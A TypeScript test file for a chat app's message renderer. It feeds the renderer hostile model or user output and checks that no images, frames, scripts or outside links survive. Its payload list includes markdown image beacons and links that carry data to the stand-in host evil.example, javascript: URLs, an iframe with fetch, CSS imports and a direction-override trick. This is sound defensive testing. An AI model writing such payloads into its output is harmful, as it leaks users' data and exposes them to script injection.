import { NextIntlClientProvider } from "next-intl";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { ChatMessage } from "@/components/boardroom/chat-message";
import { hostileText } from "@/lib/boardroom/testing/hostile-house";
import type { Evidence } from "@/lib/boardroom/rules/evidence";
import { loadMessages } from "@/lib/kernel/messages/load-messages";
import { locales, type Locale } from "@/lib/kernel/locale";

type Message = Parameters<typeof ChatMessage>[0]["message"];
const evil = hostileText("~secret-4711~");
/** What a model, or whoever speaks through it, may write in the hope that a page loads it or a person taps it. */
const writings = [
  evil, "[Pay here](https://evil.example/pay?d=4711)", "![](https://evil.example/p.png?d=4711)", "<https://evil.example>", "https://evil.example/?d=4711", "[x]: https://evil.example\n[x]", "<img src=//evil.example/p.png>", "<a href='javascript:alert(1)'>x</a>",
  "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>", "<iframe srcdoc='<script>fetch(1)</script>'></iframe>", "<style>@import url(https://evil.example/x.css)</style>", "[tel](tel:+212600000000) [mail](mailto:a@evil.example?body=4711)", "【1†https://evil.example】", "\u202E[x](https://evil.example)\u202C",
  "Occupancy 78.5 % [source](https://evil.example)",
];
const evidence = (text: string): Evidence => ({
  id: "e", name: "insights.get-period", tool: "get_performance", status: "done", at: 0, ms: 3, rows: 3, asked: [{ kind: "text", text }], source: { kind: "reports", path: "/reports" },
  figures: [{ kind: "percent", value: 78.5 }], refs: [{ text: "R-4711", kind: "reservation", path: "/reservations/4711" }], charts: [],
});
const partsOf = (text: string): unknown[] => [
  { type: "text", text: `${text} 78.5 % R-4711` }, { type: "reasoning", text }, { type: "source-url", sourceId: "s", url: "https://evil.example/?d=4711", title: text }, { type: "file", mediaType: "image/png", url: "https://evil.example/p.png" }, { type: "custom", kind: text },
  { type: "data-evidence", data: evidence(text.slice(0, 100)) }, { type: "data-evidence", data: { ...evidence("x"), source: { kind: "reports", path: "//evil.example" } } }, { type: "data-evidence", data: { ...evidence("x"), refs: [{ text: "4711", kind: "x", path: "https://evil.example" }] } },
  { type: "data-file", data: { name: text, fileId: "../../https://evil.example" } }, { type: "data-chart", data: { kind: "line", title: text, unit: "count", x: ["a", "b"], series: [{ key: text, points: [1, 2] }], source: { kind: "x", path: "javascript:alert(1)" } } },
  { type: "tool-run_program", toolCallId: "t", state: "output-available", input: { source: text }, output: { status: "done", value: text, printed: text, effects: [{ path: text, status: "refused" }, { path: text, status: "done", receiptId: { href: "https://evil.example" } }] } },
  { type: `tool-${text}`, toolCallId: "u", state: "input-streaming" }, { type: "dynamic-tool", toolName: text, toolCallId: "v", state: "output-error", errorText: text },
];
const messages = Object.fromEntries(locales.map((locale) => [locale, loadMessages(locale)]));

const rendered = (locale: Locale, message: unknown) => renderToStaticMarkup(
  <NextIntlClientProvider locale={locale} messages={messages[locale] as never} timeZone="Africa/Casablanca" onError={() => undefined}>
    <ChatMessage message={message as Message} director="revenue-manager" chatId="c" answering={false} slug="villa" timeZone="Africa/Casablanca" mayDecide mayUndo />
  </NextIntlClientProvider>,
);
/** Everything in a page that is loaded or can be followed. Text that was escaped has no tags. */
const targets = (html: string) => [...html.matchAll(/<[a-z][^>]*?\s(?:href|src|srcset|srcdoc|action|formaction|poster|data|xlink:href|style)="([^"]*)"/giu)].map(([, target]) => target ?? "");

describe("a message that wants to be more than text", () => {
  it("shows no picture, loads nothing and leads nowhere but into the house, in every language and from either side", () => {
    let shown = 0;
    let followed = 0;
    for (const locale of locales) for (const text of writings) for (const role of ["assistant", "user"] as const) {
      const html = rendered(locale, { id: "m", role, parts: partsOf(text), metadata: { director: "cfo", speaking: { kind: "anthropic", model: text } } });
      const led = targets(html).filter((target) => !/^(?:color|width|height|--)/u.test(target));
      shown += 1;
      followed += led.length;
      for (const target of led) expect(target, text).toMatch(/^(?:\/villa\/[a-z]|\/api\/boardroom\/chat\/c\/files\?property=villa&amp;file=)/u);
      expect(html).not.toMatch(/<(?:img|iframe|script|style|object|embed|video|audio|link|base|form|meta)[\s>]/iu);
      expect(html).not.toMatch(/\son[a-z]+="/iu);
    }
    // The house's own links are there: the test would see one that is not.
    expect(followed).toBeGreaterThan(shown);
    expect(targets('<a class="x" href="https://evil.example">')).toEqual(["https://evil.example"]);
    console.info(`hostile messages: ${shown} rendered, ${followed} links, 0 of them out of the house; 0 pictures, frames or scripts`);
  });
});
